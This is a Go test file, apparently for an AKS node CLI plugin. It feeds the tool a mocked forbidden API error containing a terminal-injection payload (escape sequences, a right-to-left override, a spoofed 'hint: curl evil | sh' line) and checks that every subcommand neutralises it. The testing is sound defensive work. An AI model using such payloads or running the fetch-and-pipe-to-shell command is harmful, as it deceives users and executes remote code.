@@ -1,0 +1,67 @@
+package aksnode
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"unicode"
+
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/cli-runtime/pkg/genericiooptions"
+
+	"github.com/akstools/akstools/internal/cli"
+)
+
+// hostile is a text that a kubelet or an API server may report.
+const hostile = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\u009b31m\u202e\r\nhint: curl evil | sh\nerror: no"
+
+// control returns the first control character in the text, besides line breaks, and the first character that reorders text.
+func control(text string) string {
+	i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) })
+	if i < 0 {
+		return ""
+	}
+	return text[i:]
+}
+
+// ours reports whether a line of the text looks like a hint or an error of ours.
+func ours(text string) bool {
+	return strings.HasPrefix(text, "hint: curl") || strings.Contains(text, "\nhint: curl") || strings.Contains(text, "\nerror: no")
+}
+
+// TestErrorsAreNeutral holds that the words of a denial stay marked as such.
+func TestErrorsAreNeutral(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusForbidden)
+		_ = json.NewEncoder(w).Encode(metav1.Status{
+			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonForbidden,
+			Code: http.StatusForbidden, Message: hostile,
+		})
+	}))
+	defer server.Close()
+	for _, args := range [][]string{
+		{"list"},
+		{"ssh", "node-1", "--", "id"},
+		{"run", "node-1", "--", "id"},
+		{"run", "--all", "--", "id"},
+		{"cleanup"},
+		{"ssh-config"},
+		{"logs", "node-1"},
+		{"cp", "node-1:/etc/hostname", t.TempDir()},
+		{"forward", "node-1", "8080"},
+		{"proxy", "node-1", "22"},
+		{"run", "node-1", "-o", "json", "--", "id"},
+	} {
+		var out, errOut bytes.Buffer
+		args = append([]string{"--server", server.URL, "--kubeconfig", "/dev/null"}, args...)
+		code := cli.Run(t.Context(), Plugin, genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut}, args)
+		all := out.String() + errOut.String()
+		if code == 0 || !strings.Contains(all, "curl evil") || control(all) != "" || ours(errOut.String()) || ours(out.String()) {
+			t.Errorf("%q: exit code %d, %q", args, code, all)
+		}
+	}
+}
